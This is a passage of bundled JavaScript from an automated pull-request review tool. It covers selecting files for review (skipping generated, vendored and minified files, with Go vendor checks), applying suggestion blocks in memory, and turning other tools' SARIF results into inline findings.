        updates.set(folder, new Set(goModules(added.join('\n'))));
    }
    return updates;
}
/**
 * Whether the base's version of `file` has the `look` the change gives it. `head` is the post-change
 * text when it was read (null: only the diff is known). The base is read only when neither the path
 * nor the lines the change left untouched settle it.
 */
async function confirmLook(file, look, base, head) {
    if (look.kind === 'generated' && base.ref !== null) {
        const vendored = await goVendoredModule(file.path, base);
        if (vendored !== null)
            return vendored;
    }
    if (file.status === 'added' || base.ref === null)
        return { confirmed: false, reason: 'new file' };
    const basePath = file.oldPath;
    const moved = basePath === file.path ? null : `moved from ${basePath}`;
    // The path alone, at the base: a file already in `vendor/`, `dist/` or named `*.min.js` there.
    const byPath = (0,file_class/* classifyFile */.TX)(basePath, base.attributes);
    if (look.kind === 'generated' && (0,file_class/* isSkippedClass */.R4)(byPath.class))
        return confirmed(byPath.reason, moved);
    if (look.kind === 'minified' && select_select/* MINIFIED_NAME */.uk.test(basePath))
        return confirmed('minified', moved);
    // A regenerated file changed in its middle: its header is in lines the base has as they are.
    const kept = unchangedPrefix(file, head);
    const fromKept = baseVerdict(look, basePath, base.attributes, kept, moved);
    if (fromKept.confirmed)
        return fromKept;
    let text;
    try {
        text = await base.workspace.readFile(basePath, base.ref);
    }
    catch (error) {
        // Unread is not "not generated" either; but reviewing the file loses nothing, so it is reviewed.
        const why = error instanceof Error ? error.message : String(error);
        return { confirmed: false, reason: `its version at the base could not be read (${why})` };
    }
    // null: absent, binary or past the size limit; none of them confirms a look.
    if (text === null)
        return { confirmed: false, reason: moved ?? 'no readable version at the base' };
    return baseVerdict(look, basePath, base.attributes, text.split('\n', 30), moved, text);
}
/** The `vendor/modules.txt` of each Go vendor folder, as the base has it, per base. */
const vendorModules = new WeakMap();
/**
 * Whether `path` lies in a Go module that the base's `vendor/modules.txt` lists (`# <module>
 * <version>`, as `go mod vendor` writes it), and the change updates that module: then the file is
 * the module's code, vendored by the base's own word, and `go mod vendor` wrote it (a module's
 * update brings new files too). The update is the change's own word, but the module's line is
 * checked against `go.mod` by every `-mod=vendor` build, so it shows in the change as a dependency
 * bump. A listed module the change does not update was edited by hand: the file is reviewed
 * (`go build -mod=vendor` compiles it as it is). null: not a listed module's file.
 */
async function goVendoredModule(path, base) {
    const at = /(?:^|\/)vendor\//.exec(path);
    if (at === null)
        return null;
    const folder = path.slice(0, at.index + at[0].length);
    const inside = path.slice(folder.length);
    if (inside === 'modules.txt')
        return null;
    let byFolder = vendorModules.get(base);
    if (!byFolder)
        vendorModules.set(base, (byFolder = new Map()));
    let modules = byFolder.get(folder);
    if (!modules) {
        modules = base.workspace
            .readFile(`${folder}modules.txt`, base.ref)
            .then((text) => goModules(text ?? ''))
            // Unread is not "not vendored": the file is reviewed, as any look the base does not confirm.
            .catch(() => []);
        byFolder.set(folder, modules);
    }
    const module = (await modules)
        .filter((m) => inside.startsWith(`${m}/`))
        .reduce((longest, m) => (longest && longest.length >= m.length ? longest : m), undefined);
    if (module === undefined)
        return null;
    const listed = `Go module ${module}, listed in the base's ${folder}modules.txt`;
    const updates = base.vendorUpdates?.get(folder);
    if (updates === 'unknown' || updates?.has(module))
        return { confirmed: true, reason: `vendored (${listed}, updated by the change)` };
    return {
        confirmed: false,
        reason: `edited by hand: the ${listed}, but the change leaves its version there as it is`,
    };
}
/** The module paths of a `vendor/modules.txt`: its `# <module> <version>` lines. */
function goModules(text) {
    const modules = [];
    for (const line of text.split('\n')) {
        const module = /^# (\S+) (?:v\S+|=>)/.exec(line)?.[1];
        if (module !== undefined)
            modules.push(module);
    }
    return modules;
}
/** The verdict from the first lines of the base's version (and its whole text, for a long line). */
function baseVerdict(look, basePath, attributes, lines, moved, text = lines.join('\n')) {
    if (look.kind === 'minified') {
        return hasLongLine(text)
            ? confirmed('minified', moved)
            : { confirmed: false, reason: moved ?? 'not minified at the base' };
    }
    const atBase = (0,file_class/* classifyFile */.TX)(basePath, attributes, (0,file_class/* generatedMarker */.KU)(lines), (0,file_class/* libraryBanner */.yd)(basePath, lines));
    if ((0,file_class/* isSkippedClass */.R4)(atBase.class))
        return confirmed(atBase.reason, moved);
    return { confirmed: false, reason: moved ?? `${atBase.class} at the base` };
}
/**
 * The first lines of the post-change file that are the base's first lines too: the lines above the
 * first hunk (no change before it, so old and new numbers agree) and the first hunk's leading context.
 * From `head` when it was read, else from the diff (only when the first hunk starts at line 1).
 */
function unchangedPrefix(file, head) {
    const first = file.hunks[0];
    if (!first || first.newStart < 1)
        return [];
    const changeAt = first.lines.findIndex((l) => l.kind !== 'context');
    const leading = changeAt === -1 ? first.lines.length : changeAt;
    if (head !== null)
        return head.split('\n', Math.min(first.newStart - 1 + leading, 30));
    return first.newStart === 1 ? first.lines.slice(0, Math.min(leading, 30)).map((l) => l.text) : [];
}
function confirmed(reason, moved) {
    return { confirmed: true, reason: moved ? `${reason}, ${moved}` : reason };
}
function hasLongLine(text) {
    let start = 0;
    while (start <= text.length) {
        const end = text.indexOf('\n', start);
        const stop = end === -1 ? text.length : end;
        if (stop - start > select_select/* MINIFIED_LINE_LENGTH */.g_)
            return true;
        start = stop + 1;
    }
    return false;
}
/** How many base reads are in flight at once (as the post-change reads). */
const READ_CONCURRENCY = 8;
/** confirmLook for many files, READ_CONCURRENCY reads at a time; verdicts by path. */
async function confirmLooks(candidates, base) {
    const verdicts = new Map();
    let next = 0;
    const worker = async () => {
        while (next < candidates.length) {
            const { file, look, head } = candidates[next++];
            verdicts.set(file.path, await confirmLook(file, look, base, head ?? null));
        }
    };
    await Promise.all(Array.from({ length: Math.min(READ_CONCURRENCY, candidates.length) }, worker));
    return verdicts;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/git-attributes.js
var git_attributes = __webpack_require__(64943);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/path-filter.js
var path_filter = __webpack_require__(15293);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/prefetch.js
var prefetch = __webpack_require__(31010);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/select/select-change.js







/** Selects the files of a change and reads the contents the review will use. */
async function selectChange(input) {
    const { attributes, warning } = input.baseRef === null
        ? { attributes: git_attributes/* NO_ATTRIBUTES */.AY, warning: null }
        : await readAttributes(input.workspace, input.baseRef);
    const base = {
        ref: input.baseRef,
        attributes,
        workspace: input.workspace,
        vendorUpdates: vendorUpdates(input.files),
    };
    const first = await selectConfirmed(input, base);
    const wanted = first.kept.filter(input.wanted);
    const refused = new Map();
    const workspace = refusingUnreadable(input.workspace, refused);
    const { contents, skipped } = input.prefetch
        ? await (0,prefetch/* prefetchContents */._Q)(wanted, workspace, input.headRef, input.prefetch)
        : { contents: await readContents(wanted, workspace, input.headRef), skipped: [] };
    const included = (0,select_select/* includeMatcher */.lh)(input.options.include);
    const kept = [];
    const excluded = [...first.excluded];
    const classes = new Map(first.classes);
    const dropped = (file, reason) => {
        excluded.push({ path: file.path, reason });
        classes.delete(file.path);
        contents.delete(file.path);
    };
    // A generated header the post-change content shows outside the diff: a look like any other.
    const looks = [];
    for (const file of first.kept) {
        const why = refused.get(file.path);
        if (why !== undefined)
            dropped(file, why);
        else {
            const look = contentLook(file, contents.get(file.path), attributes, classes);
            // The user's include globs and `include-generated` win here as in selectFiles.
            const forced = input.options.includeGenerated === true || included(file.path);
            if (look && !forced && !first.plain.has(file.path))
                looks.push({ file, look, head: contents.get(file.path) ?? null });
            kept.push(file);
        }
    }
    const verdicts = await confirmLooks(looks, base);
    const unconfirmed = [...first.unconfirmed];
    for (const { file, look } of looks) {
        const verdict = verdicts.get(file.path);
        if (verdict.confirmed)
            dropped(file, verdict.reason);
        else
            unconfirmed.push({ path: file.path, looked: look.reason, reason: verdict.reason });
    }
    const warnings = warning === null ? [] : [warning];
    const reviewed = kept.filter((f) => classes.has(f.path));
    const pathFilter = (0,path_filter/* runPathFilter */.Pe)({
        rules: (0,path_filter/* compilePathRules */.q4)(input.options),
        attributes,
        excluded,
        kept: reviewed.map((f) => f.path),
    });
    return { kept: reviewed, excluded, classes, contents, skipped, warnings, unconfirmed, pathFilter };
}
/**
 * selectFiles, with the looks of the files it left out checked against the base: a look the base does
 * not confirm is dropped and the file selected again by the attributes and the other gates alone.
 */
async function selectConfirmed(input, base) {
    const options = { ...input.options, attributes: base.attributes };
    const first = (0,select_select/* selectFiles */.AL)(input.files, options);
    const candidates = input.files.flatMap((file) => {
        const look = first.looks.get(file.path);
        return look ? [{ file, look }] : [];
    });
    const verdicts = await confirmLooks(candidates, base);
    const unconfirmed = [];
    const plain = new Set();
    for (const { file, look } of candidates) {
        const verdict = verdicts.get(file.path);
        if (verdict.confirmed)
            continue;
        plain.add(file.path);
        unconfirmed.push({ path: file.path, looked: look.reason, reason: verdict.reason });
    }
    const selected = plain.size === 0 ? first : (0,select_select/* selectFiles */.AL)(input.files, { ...options, unconfirmed: plain });
    // What the base said is the reason (`vendored, moved from vendor/a.js`).
    const excluded = selected.excluded.map((e) => {
        const verdict = verdicts.get(e.path);
        return verdict?.confirmed ? { path: e.path, reason: verdict.reason } : e;
    });
    // Said only of a file that is reviewed now (not one a later gate, a lock file, left out).
    const kept = new Set(selected.kept.map((f) => f.path));
    return { ...selected, excluded, plain, unconfirmed: unconfirmed.filter((u) => kept.has(u.path)) };
}
/** The generated or vendored look of a kept file's post-change content, if it adds one. */
function contentLook(file, content, attributes, classes) {
    const head = content ? content.split('\n', 30) : [];
    const header = (0,file_class/* generatedMarker */.KU)(head);
    const banner = (0,file_class/* libraryBanner */.yd)(file.path, head);
    if (header === null && banner === null)
        return null;
    const kind = (0,file_class/* classifyFile */.TX)(file.path, attributes, header, banner);
    // A file kept as generated or vendored was included on purpose (include globs, include-generated).
    if (!(0,file_class/* isSkippedClass */.R4)(kind.class) || classes.get(file.path) === kind.class)
        return null;
    return { kind: 'generated', reason: kind.reason };
}
/**
 * The workspace with a read of a path it cannot open (UnreadablePathError) recorded in `refused`
 * instead of thrown: that one file is excluded with the reason, the rest of the run goes on. Every
 * other failure still throws (a failed read is not an absent file).
 */
function refusingUnreadable(workspace, refused) {
    return {
        async readFile(path, ref) {
            try {
                return await workspace.readFile(path, ref);
            }
            catch (error) {
                if (!(error instanceof repo_path/* UnreadablePathError */.hU))
                    throw error;
                refused.set(path, `unreadable path: ${error.reason}`);
                return null;
            }
        },
        searchCode: (query, options) => workspace.searchCode(query, options),
    };
}
/**
 * The root `.gitattributes` at `ref`; none when it is absent (the port answers null). A read that
 * fails otherwise (401, rate limit, 5xx) is not "no attributes": the run goes on without them, but
 * says so, since files the repository marks generated are then reviewed as source.
 */
async function readAttributes(workspace, ref) {
    try {
        const text = await workspace.readFile('.gitattributes', ref);
        return { attributes: text === null ? git_attributes/* NO_ATTRIBUTES */.AY : (0,git_attributes/* parseGitAttributes */.VW)(text), warning: null };
    }
    catch (error) {
        const reason = error instanceof Error ? error.message : String(error);
        return {
            attributes: git_attributes/* NO_ATTRIBUTES */.AY,
            warning: `could not read .gitattributes at ${ref ?? 'the working tree'} (${reason}): files it marks ` +
                'generated or vendored were reviewed as source',
        };
    }
}
/** How many file reads are in flight at once: enough to hide latency, few enough for rate limits. */
const select_change_READ_CONCURRENCY = 8;
/** Reads the post-change contents of `files`, READ_CONCURRENCY at a time. */
async function readContents(files, workspace, ref) {
    const contents = new Map();
    let next = 0;
    const worker = async () => {
        while (next < files.length) {
            const file = files[next++];
            contents.set(file.path, await workspace.readFile(file.path, ref));
        }
    };
    await Promise.all(Array.from({ length: Math.min(select_change_READ_CONCURRENCY, files.length) }, worker));
    return contents;
}


/***/ }),

/***/ 30857:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AL: () => (/* binding */ selectFiles),
/* harmony export */   g_: () => (/* binding */ MINIFIED_LINE_LENGTH),
/* harmony export */   lh: () => (/* binding */ includeMatcher),
/* harmony export */   uk: () => (/* reexport safe */ _path_filter_js__WEBPACK_IMPORTED_MODULE_1__.uk)
/* harmony export */ });
/* harmony import */ var _file_class_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(48202);
/* harmony import */ var _path_filter_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(15293);



const DEFAULT_MAX_FILE_CHANGED_LINES = 5000;
const MINIFIABLE = /\.(?:js|mjs|cjs|css)$/i;
/** A hand-written line of JavaScript or CSS is never this long; a bundler's output is. */
const MINIFIED_LINE_LENGTH = 1000;
/** Whether a path matches one of the include globs, by the same rules selectFiles applies. */
function includeMatcher(patterns) {
    const { include } = (0,_path_filter_js__WEBPACK_IMPORTED_MODULE_1__/* .compilePathRules */ .q4)({ include: patterns });
    return (path) => (0,_path_filter_js__WEBPACK_IMPORTED_MODULE_1__/* .firstMatch */ .o4)(include, path) !== undefined;
}
function baseName(path) {
    return path.slice(path.lastIndexOf('/') + 1);
}
/** Reasons no setting can override. */
function hardReason(file) {
    if (file.status === 'deleted')
        return 'deleted';
    if (file.binary)
        return 'binary';
    // A pure rename, a copy or a mode change: nothing for a reviewer to read.
    if (file.hunks.length === 0)
        return 'no content change';
    return undefined;
}
/** The first lines of the new file that the diff shows (a header outside every hunk is not seen here). */
function visibleHeader(file) {
    const lines = [];
    for (const hunk of file.hunks) {
        for (const line of hunk.lines) {
            if (line.newLine !== null && line.newLine <= _file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .GENERATED_HEADER_LINES */ .eb)
                lines.push(line.text);
        }
    }
    return lines;
}
function hasMinifiedLine(file) {
    return file.hunks.some((hunk) => hunk.lines.some((line) => line.kind === 'add' && line.text.length > MINIFIED_LINE_LENGTH));
}
/**
 * Default gates: the path's (path-filter.ts, shared with the context's filter), then the content's.
 * `plain`: the base did not confirm the file's look, so no minified gate either.
 */
function defaultReason(file, kind, options, plain) {
    const byPath = (0,_path_filter_js__WEBPACK_IMPORTED_MODULE_1__/* .pathReason */ .qb)(file.path, kind, options.rules, plain);
    if (byPath !== undefined || (0,_path_filter_js__WEBPACK_IMPORTED_MODULE_1__/* .firstMatch */ .o4)(options.rules.include, file.path) !== undefined)
        return byPath;
    if (!plain && MINIFIABLE.test(baseName(file.path)) && hasMinifiedLine(file))
        return 'minified';
    const changed = file.additions + file.deletions;
    if (changed > options.maxChangedLines) {
        return `too large (${changed} changed lines > ${options.maxChangedLines})`;
    }
    return undefined;
}
/** Splits a change into files to review and files left out, each with the reason why. */
function selectFiles(files, options = {}) {
    const rules = (0,_path_filter_js__WEBPACK_IMPORTED_MODULE_1__/* .compilePathRules */ .q4)(options);
    const gates = { maxChangedLines: options.maxFileChangedLines ?? DEFAULT_MAX_FILE_CHANGED_LINES, rules };
    const kept = [];
    const excluded = [];
    const classes = new Map();
    const looks = new Map();
    for (const file of files) {
        const hard = hardReason(file);
        const plain = options.unconfirmed?.has(file.path) === true;
        const kind = hard === undefined ? classOf(file, options.attributes, plain) : null;
        const reason = hard ?? (kind === null ? undefined : defaultReason(file, kind, gates, plain));
        if (reason === undefined) {
            kept.push(file);
            classes.set(file.path, kind?.class ?? 'source');
            continue;
        }
        excluded.push({ path: file.path, reason });
        const look = kind === null || plain ? null : lookOf(file, kind, reason, options.attributes);
        if (look)
            looks.set(file.path, look);
    }
    return { kept, excluded, classes, looks };
}
/** The class of a file by its path and visible header, or by the attributes alone when `plain`. */
function classOf(file, attributes, plain) {
    if (plain)
        return (0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .attributeClass */ .jp)(file.path, attributes);
    const header = visibleHeader(file);
    return (0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .classifyFile */ .TX)(file.path, attributes, (0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .generatedMarker */ .KU)(header), (0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .libraryBanner */ .yd)(file.path, header));
}
/** The look behind `reason`, or null when the attributes or a gate about the content chose it. */
function lookOf(file, kind, reason, attributes) {
    if (reason === 'minified')
        return { kind: 'minified', reason };
    if (reason !== kind.reason || !(0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .isSkippedClass */ .R4)(kind.class))
        return null;
    return (0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .isSkippedClass */ .R4)((0,_file_class_js__WEBPACK_IMPORTED_MODULE_0__/* .attributeClass */ .jp)(file.path, attributes).class) ? null : { kind: 'generated', reason };
}


/***/ }),

/***/ 47397:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   T: () => (/* binding */ applySuggestion)
/* harmony export */ });
/**
 * A suggestion applied in memory, the way GitHub's "Commit suggestion" applies it: the block's text
 * replaces the commented lines whole. What the reviewer would commit is what gets parsed and
 * re-reviewed, so the apply must not be kinder than GitHub (no re-indenting, no merging of lines).
 */
/**
 * `content` with `range` replaced by `suggestion`, or an error saying why the range does not exist
 * in the file (a suggestion for lines the file does not have cannot be committed as shown).
 */
function applySuggestion(content, range, suggestion) {
    const lines = content.split('\n');
    const first = range.start_line ?? range.line;
    // A trailing newline leaves an empty last element, which is no line of the file.
    const count = content.endsWith('\n') ? lines.length - 1 : lines.length;
    if (first < 1 || range.line < first || range.line > count) {
        return { error: `lines ${first}-${range.line} are not in the file (it has ${count})` };
    }
    const replaced = lines.slice(first - 1, range.line);
    // A CRLF file keeps its line ends: GitHub commits the block into the file's own line ending.
    const crlf = replaced.every((l) => l.endsWith('\r'));
    const body = suggestion.replace(/\r\n/g, '\n').replace(/\n$/, '');
    const added = body === '' ? [] : body.split('\n').map((l) => (crlf ? `${l}\r` : l));
    lines.splice(first - 1, replaced.length, ...added);
    return {
        content: lines.join('\n'),
        lines: added.map((_, i) => first + i),
        indentation: indentationChange(replaced, added),
    };
}
/**
 * Compares the leading whitespace of the first non-blank replaced line with the suggestion's: a model
 * that drops or adds indentation turns a Python body into another block, and elsewhere leaves code the
 * formatter rewrites on the next commit.
 */
function indentationChange(replaced, added) {
    const before = replaced.find((l) => l.trim() !== '');
    const after = added.find((l) => l.trim() !== '');
    if (before === undefined || after === undefined)
        return null;
    const [was, now] = [leading(before), leading(after)];
    if (was === now)
        return null;
    return `the first line's indentation changes from ${describe(was)} to ${describe(now)}`;
}
function leading(line) {
    return /^[ \t]*/.exec(line)?.[0] ?? '';
}
function describe(indent) {
    if (indent === '')
        return 'none';
    const tabs = indent.split('\t').length - 1;
    const spaces = indent.length - tabs;
    return [tabs > 0 ? `${tabs} tab(s)` : '', spaces > 0 ? `${spaces} space(s)` : '']
        .filter(Boolean)
        .join(' and ');
}


/***/ }),

/***/ 65282:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   MS: () => (/* binding */ toolId),
/* harmony export */   Nj: () => (/* binding */ importedFindings)
/* harmony export */ });
/* unused harmony export diffPlacer */
/* harmony import */ var _core_fingerprint_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1905);
/* harmony import */ var _core_line_index_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(23644);
/* harmony import */ var _ingest_sarif_uri_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(52234);
/**
 * Turns other tools' results into findings of this change. Only results on the lines the PR
 * changes become inline comments, as reviewdog's filter modes decide: `added` (a line the PR adds,
 * the default), `diff_context` (any line of a hunk), `file` (anywhere in a changed file; a line
 * outside the hunks cannot carry a comment, so it goes to the summary's unplaced list). The rest,
 * results the change did not introduce (`baselineState` unchanged or absent) and results of level
 * `none` (info) are counted for the summary and never posted: a linter's findings on untouched code
 * are the team's backlog, not this PR's review.
 */



const DEFAULT_SEVERITY = {
    error: 'high',
    warning: 'medium',
    note: 'low',
    none: 'info',
};
/** A tool's result is deterministic; it is as sure as a static rule of prlens. */
const IMPORTED_CONFIDENCE = 0.9;
/** Titles are one line; a tool's long message stays whole in the body. */
const MAX_TITLE = 120;
/** The findings of the imported results on the reviewed files. */
function importedFindings(results, files, options) {
    const diffs = new Map(files.map((f) => [f.path, f]));
    // A file's placer is built on its first result: most changed files get none.
    const placers = new Map();
    const placerOf = (file) => {
        let placer = placers.get(file.path);
        if (!placer)
            placers.set(file.path, (placer = diffPlacer((0,_core_line_index_js__WEBPACK_IMPORTED_MODULE_2__/* .buildLineIndex */ .T)(file))));
        return placer;
    };
    // A Set beside the list: a file of 100,000 runs, each naming its own tool, stays linear.
    const tools = new Set();
    const stats = {
        tools: [],
        results: results.length,
        on_diff: 0,
        outside_diff: 0,
        not_new: 0,
        info: 0,
        not_on_file: 0,
    };
    const findings = [];
    const unplaced = [];
    for (const result of results) {
        const tool = toolId(result.tool);
        if (!tools.has(result.tool)) {
            tools.add(result.tool);
            stats.tools.push(result.tool);
        }
        if (result.baseline === 'unchanged' || result.baseline === 'absent') {
            stats.not_new++;
            continue;
        }
        const severity = options.severity[tool]?.[result.level] ?? DEFAULT_SEVERITY[result.level];
        if (severity === 'info') {
            stats.info++;
            continue;
        }
        const path = result.uri === null ? null : (0,_ingest_sarif_uri_js__WEBPACK_IMPORTED_MODULE_1__/* .repoPath */ .q)(result.uri, options.roots);
        if (path === null) {
            stats.not_on_file++;
            continue;
        }
        const diff = diffs.get(path);
        const place = diff && result.startLine !== null ? placerOf(diff)(result, options.filter) : null;
        if (diff && place) {
            stats.on_diff++;
            findings.push(toFinding(result, { path, tool, severity, ...place, anchored: true }));
        }
        else if (diff && options.filter === 'file') {
            stats.on_diff++;
            const line = result.startLine ?? 1;
            unplaced.push(toFinding(result, { path, tool, severity, line, start_line: null, anchor: '', anchored: false }));
        }
        else
            stats.outside_diff++;
    }
    return { findings, unplaced, stats };
}
/**
 * A tool's name as a lens name: lowercased, one word (`+` joins lens names). `static` is the lens of
 * prlens's own rules: a tool naming itself so would pass for them (lead a merged comment, bring its
 * fix as the rule's), so it becomes `static-tool` (issue 42, point 3).
 */
function toolId(tool) {
    const id = tool
        .trim()
        .toLowerCase()
        .replace(/[\s+]+/g, '-') || 'tool';
    return id === 'static' ? 'static-tool' : id;
}
/**
 * The placer of one file's diff. A range whose two ends GitHub accepts (same hunk) stays a range;
 * otherwise the comment goes on the range's first line the filter allows. The range is the tool's
 * word (`endLine: 1e12` looped until the runner killed it, issue 42 point 7), so the work never
 * follows it: the diff's lines are read once, then each result costs a binary search.
 */
function diffPlacer(index) {
    // Git writes hunks in ascending order; a copy is sorted anyway so the search holds for any diff.
    const lines = [...index.lines('RIGHT')].sort((a, b) => a.line - b.line);
    // nextAdded[i]: the position of the first added line at or after i (lines.length when none).
    const nextAdded = new Array(lines.length + 1).fill(lines.length);
    for (let i = lines.length - 1; i >= 0; i--)
        nextAdded[i] = lines[i].kind === 'add' ? i : nextAdded[i + 1];
    return (result, filter) => {
        const start = result.startLine;
        const end = result.endLine ?? start;
        const from = firstAtOrAfter(lines, start);
        const first = lines[filter === 'added' ? nextAdded[from] : from];
        if (!first || first.line > end)
            return null;
        const last = index.get('RIGHT', end);
        if (end > start && index.check({ side: 'RIGHT', line: end, start_line: start }).ok && last)
            return { line: end, start_line: start, anchor: last.text };
        return { line: first.line, start_line: null, anchor: first.text };
    };
}
/** The position of the first of `lines` (sorted by number) whose number is at least `line`. */
function firstAtOrAfter(lines, line) {
    let lo = 0;
    let hi = lines.length;
    while (lo < hi) {
        const mid = (lo + hi) >> 1;
        if (lines[mid].line < line)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}
function toFinding(result, at) {
    const rule = result.ruleId;
    const category = rule === null ? at.tool : `${at.tool}/${rule}`;
    const related = result.related
        .slice(0, 5)
        .map((r) => `- ${r.uri}${r.line !== null ? `:${r.line}` : ''}${r.message ? `: ${r.message}` : ''}`);
    const source = `_${result.tool}${rule !== null ? ` rule \`${rule}\`` : ''}${result.helpUri ? ` ([docs](${result.helpUri}))` : ''}_`;
    const body = [result.message, related.length > 0 ? ['Related:', ...related].join('\n') : '', source]
        .filter((part) => part !== '')
        .join('\n\n');
    const from = at.start_line ?? at.line;
    const fix = result.fixes.find((f) => f.startLine === from && f.endLine === at.line);
    return {
        path: at.path,
        line: at.line,
        start_line: at.start_line,
        side: 'RIGHT',
        severity: at.severity,
        category,
        lens: at.tool,
        title: titleOf(result.message),
        body,
        suggestion: fix?.text ?? null,
        anchor: at.anchor,
        confidence: IMPORTED_CONFIDENCE,
        anchored: at.anchored,
        fingerprint: (0,_core_fingerprint_js__WEBPACK_IMPORTED_MODULE_0__/* .fingerprint */ .R)({
            path: at.path,
            category,
            anchor: at.anchor === '' ? `line ${at.line}` : at.anchor,
        }),
        // Never null: the Finding contract keeps null for a model's finding, which the findings budget may
        // hold back; a tool's result that names no rule (SARIF's `ruleId` is optional) files under the tool.
        rule: rule ?? at.tool,
    };
}
function titleOf(message) {
    const line = message.split(/\r?\n/)[0].replace(/\s+/g, ' ').trim();
    return line.length > MAX_TITLE ? `${line.slice(0, MAX_TITLE - 1)}\u2026` : line;
}


/***/ }),

/***/ 37288:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   L: () => (/* binding */ select),
/* harmony export */   u: () => (/* binding */ readFor)
/* harmony export */ });
/* harmony import */ var _static_run_static_rules_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(71918);
/* harmony import */ var _select_prefetch_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(31010);
/* harmony import */ var _select_select_change_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(74499);



/** Selects the files of the change and reads their contents into the set. */
async function select(set, run) {
    const { context, change, settings } = run;
    const prefetched = await (0,_select_select_change_js__WEBPACK_IMPORTED_MODULE_1__/* .selectChange */ .f)({
        files: change.files,
        workspace: change.workspace,
        headRef: change.headRef,
        baseRef: run.baseRef,
        options: {
            include: settings.include,
            exclude: settings.exclude,
            maxFileChangedLines: settings.maxFileChangedLines,
            includeGenerated: settings.includeGenerated ?? false,
        },
        wanted: readFor(run.withModel),
        prefetch: { clock: context.clock, maxReads: run.maxFileReads, deadline: run.deadline },
    });
    const { classes, contents } = prefetched;
    const warnings = [];
    // A file the static rules check is named by the static lens, with what is missing; the rest here.
    const checked = new Set(prefetched.kept.filter(_static_run_static_rules_js__WEBPACK_IMPORTED_MODULE_0__/* .staticChecks */ .yP).map((f) => f.path));
    for (const [path, content] of contents) {
        if (content === null && !checked.has(path)) {
            const why = change.workspace.unreadReason?.(path, change.headRef);
            warnings.push(`could not read ${path} at ${change.headRef ?? 'the working tree'}${why === undefined ? '' : `: ${why}`}`);
        }
    }
    // What was not read is said, and the run is incomplete: a file no one looked at is not clean.
    const unread = (0,_select_prefetch_js__WEBPACK_IMPORTED_MODULE_2__/* .prefetchWarning */ .Cz)(prefetched.skipped, { maxReads: run.maxFileReads, maxReviewSeconds: run.maxReviewSeconds ?? 0 }, run.withModel);
    if (unread)
        warnings.push(unread);
    // A failed read is not an absent file: the selection itself may be wrong, so the run says so.
    warnings.push(...prefetched.warnings);
    // Without a model the static rules only read what was fetched: the rest is excluded, with why.
    const dropUnread = unread !== null && !run.withModel;
    const skipped = new Set(dropUnread ? prefetched.skipped.map((s) => s.path) : []);
    const kept = prefetched.kept.filter((f) => !skipped.has(f.path));
    const excluded = [
        ...prefetched.excluded,
        ...(dropUnread ? prefetched.skipped.map((s) => ({ path: s.path, reason: skipReason(s.reason) })) : []),
    ];
    context.logger.info(`${kept.length} file(s) to review, ${excluded.length} excluded`);
    context.onProgress?.({ phase: 'files', files: kept.length, excluded: excluded.length });
    // Said only of what is reviewed: a file the read budget then left out is not.
    const reviewed = new Set(kept.map((f) => f.path));
    return {
        ...set,
        files: {
            kept,
            excluded,
            classes,
            contents,
            unconfirmed: prefetched.unconfirmed.filter((u) => reviewed.has(u.path)),
            pathFilter: prefetched.pathFilter,
        },
        warnings: [...set.warnings, ...warnings],
        incomplete: set.incomplete || unread !== null || prefetched.warnings.length > 0,
    };
}
/**
 * The kept files someone will read: every changed file for the model, else those the static rules
 * cover. `--preview` selects with the same predicate, so a generated header outside every hunk
 * excludes the same files in both (only a read file can show one).
 */
function readFor(withModel) {
    return (f) => f.status !== 'deleted' && f.hunks.length > 0 && (withModel || (0,_static_run_static_rules_js__WEBPACK_IMPORTED_MODULE_0__/* .staticCovers */ .dj)(f.path));
}
function skipReason(reason) {
    return reason === 'read-budget'
        ? 'not read: over the file-read budget of the run (GitHub rate limit)'
        : 'not read: max-review-seconds ran out';
}


/***/ }),

/***/ 11465:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Iw: () => (/* binding */ DYNAMIC_LANGUAGES),
/* harmony export */   kP: () => (/* binding */ locateGrammar),
/* harmony export */   z1: () => (/* binding */ locateRulesDir),
/* harmony export */   z5: () => (/* binding */ GRAMMAR_SPECS)
/* harmony export */ });
/* unused harmony export prebuildFolder */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_module__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(98995);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(76760);
/* harmony import */ var node_url__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(73136);
/**
 * Where the static lens finds its files at runtime: the tree-sitter grammars of the
 * `@ast-grep/lang-*` packages and the YAML rules.
 *
 * Two layouts must work (docs/contracts.md, "Build facts"):
 * - the ncc bundle: `dist/index.js` next to `dist/grammars/<prebuild>/X.so` for each GitHub-hosted
